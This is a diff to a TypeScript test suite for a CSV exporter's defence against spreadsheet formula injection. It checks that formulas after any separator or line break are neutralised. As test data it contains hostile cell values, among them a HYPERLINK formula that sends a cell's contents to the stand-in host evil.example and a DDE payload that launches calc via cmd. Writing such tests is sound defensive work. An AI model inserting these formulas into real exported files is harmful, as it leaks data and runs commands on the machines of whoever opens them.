@@ -47,8 +47,9 @@ describe('formula injection', () => {
     ['+cmd', "'+cmd"],
     ['-2+3', "'-2+3"],
     ['@SUM(A1)', "'@SUM(A1)"],
-    ['\t=1+1', "'\t=1+1"],
-    ['\r=1+1', `"'\r=1+1"`],
+    // A tab or CR is itself a cell break to some readers: the formula after it is neutralised too.
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r=1+1', `"'\r'=1+1"`],
   ])('neutralises %j', (input, expected) => {
     expect(csvField(input, ';')).toBe(expected);
   });
@@ -61,5 +62,44 @@ describe('formula injection', () => {
   it('neutralises inside a whole file, in every text column', () => {
     const csv = toCsv(table([['=1+1', 2]]));
     expect(csv.split('\r\n')[1]).toBe("'=1+1;2");
+  });
+});
+
+describe('formula injection after any separator a spreadsheet may split on', () => {
+  // A file written with ";" may be opened by a reader that splits on ",", a tab or "|", or that
+  // ignores the quotes around a line break: every place a cell could begin must be safe.
+  const separators = [',', ';', '\t', '|', '\n', '\r\n', '\r'];
+  const triggers = ['=', '+', '-', '@'];
+  const starts = (text: string) => text.split(/[,;\t|\r\n]/).map((cell) => cell.trimStart());
+
+  for (const written of [';', ','] as const) {
+    it.each(separators.flatMap((sep) => triggers.map((t) => [sep, t])))(
+      `no cell after %j can start with %j (file written with "${written}")`,
+      (sep, trigger) => {
+        const hostile = `Godt forslag${sep}${trigger}HYPERLINK("http://evil.example/?"&A1)`;
+        const field = csvField(hostile, written);
+        const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
+        for (const cell of starts(unquoted)) expect(cell).not.toMatch(/^[=+\-@]/);
+        // The reader still sees every character of what was written.
+        expect(unquoted.replaceAll("'", '')).toBe(hostile.replaceAll("'", ''));
+      },
+    );
+  }
+
+  it('neutralises a formula behind spaces after a separator (readers that trim)', () => {
+    for (const cell of neutralise('a;  =1+1|\t -2').split(/[;|\t]/).map((c) => c.trimStart())) expect(cell).not.toMatch(/^[=+\-@]/);
+  });
+
+  it('leaves ordinary punctuation alone', () => {
+    expect(neutralise('Effektivitet, kvalitet; hastighed')).toBe('Effektivitet, kvalitet; hastighed');
+    expect(neutralise('5-10 timer | uge')).toBe('5-10 timer | uge');
+  });
+
+  it('a hostile title survives a whole file with both separators', () => {
+    for (const separator of [';', ','] as const) {
+      const csv = toCsv(table([['ok,=cmd|\' /C calc\'!A0;@SUM(1)', 1]]), { separator });
+      const body = csv.slice(1).replaceAll('"', '');
+      for (const cell of starts(body)) expect(cell).not.toMatch(/^[=+\-@]/);
+    }
   });
 });
